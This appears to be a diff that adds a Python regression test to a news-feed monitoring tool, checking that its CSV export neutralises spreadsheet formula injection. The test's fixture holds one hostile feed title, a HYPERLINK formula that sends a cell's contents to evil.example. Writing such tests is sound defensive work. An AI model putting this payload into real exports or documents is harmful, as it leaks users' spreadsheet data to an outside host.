@@ -1438,6 +1438,28 @@ def test_articles_export_writes_the_matched_articles_with_their_words_and_outlet
     assert wrong.exit_code != 0 and "--since" in wrong.output and "Traceback" not in wrong.output
 
 
+def test_articles_export_csv_cells_from_a_feed_are_never_formulas(
+    tmp_path: Path, write_config: Callable[..., Path]
+) -> None:
+    """A code review: a feed's title "=HYPERLINK(...)" came out as a formula cell, which a
+    spreadsheet runs when the export is opened."""
+    from html import escape
+
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Police in Calais")'
+    (tmp_path / "f.rss").write_text(
+        f'<rss version="2.0"><channel><title>@feed</title><item><title>{escape(title)}</title>'
+        "<link>https://news.example/x</link><description>Police cleared a camp in Calais."
+        "</description></item></channel></rss>"
+    )
+    config = write_config([str(tmp_path / "f.rss")], rules={"paths": [str(REPO / "rules")]})
+    vigie("once", "--config", config)
+    exported = vigie("articles", "export", "--since", "0", "--format", "csv", "--config", config)
+    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
+    assert rows and all(r["title"] == "'" + title for r in rows)
+    assert all(r["feed"] == "'@feed" for r in rows)
+    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
+
+
 def test_feeds_list_shows_a_feed_whose_items_are_all_copies_as_working(
     tmp_path: Path, write_config: Callable[..., Path]
 ) -> None:
